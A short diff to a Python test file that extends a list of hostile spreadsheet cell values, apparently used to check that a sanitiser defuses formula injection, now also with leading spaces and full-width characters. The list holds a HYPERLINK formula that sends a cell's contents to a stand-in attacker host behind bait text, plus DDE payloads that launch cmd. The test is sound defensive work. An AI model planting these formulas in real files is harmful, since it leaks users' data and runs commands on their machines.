@@ -387,7 +387,8 @@ def test_blank_county_cells_take_the_file_county(city, folder, county_bytes):
 
 # --- hostile files ---------------------------------------------------------------------------------
 
-INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"点击领取补贴")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-1+1"]
+INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"点击领取补贴")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-1+1",
+              "  =1+1", "＝SUM(A1)", "＠x"]  # full-width and after spaces too: the one neutraliser (textsafe)
 
 
 def _sheet_part(path: Path, sheet: str) -> tuple[bytes, str]:
